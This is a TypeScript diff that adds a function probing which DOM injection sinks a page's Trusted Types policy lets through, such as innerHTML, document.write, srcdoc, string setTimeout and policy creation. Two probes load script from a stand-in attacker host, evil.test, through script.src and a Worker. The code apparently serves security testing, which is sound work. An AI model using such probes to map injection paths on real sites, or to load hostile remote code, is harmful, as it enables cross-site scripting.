@@ -180,3 +180,35 @@ export async function runRaw(attacks: string[]): Promise<number> {
   }
   return ran;
 }
+
+/** Ways from text to markup or code that the page's policy let through. */
+export function openSinks(): string[] {
+  const factory = (
+    globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } }
+  ).trustedTypes;
+  const script = document.createElement('script');
+  const frame = document.createElement('iframe');
+  const box = document.createElement('div');
+  const ways: Record<string, () => unknown> = {
+    innerHTML: () => Object.assign(box, { innerHTML: '<b>x</b>' }),
+    outerHTML: () => Object.assign(document.body.appendChild(box), { outerHTML: '<b>x</b>' }),
+    insertAdjacentHTML: () => box.insertAdjacentHTML('beforeend', '<b>x</b>'),
+    createContextualFragment: () => document.createRange().createContextualFragment('<b>x</b>'),
+    'document.write': () => document.write('<b>x</b>'),
+    srcdoc: () => Object.assign(frame, { srcdoc: '<b>x</b>' }),
+    DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+    'script.src': () => Object.assign(script, { src: 'https://evil.test/x.js' }),
+    'script.text': () => Object.assign(script, { text: 'alert(1)' }),
+    setTimeout: () => (setTimeout as (code: unknown) => unknown)('alert(1)'),
+    Worker: () => new Worker('https://evil.test/x.js'),
+    createPolicy: () => (factory ? factory.createPolicy('evil', {}) : undefined),
+  };
+  return Object.entries(ways).flatMap(([name, run]) => {
+    try {
+      run();
+      return [name];
+    } catch {
+      return [];
+    }
+  });
+}
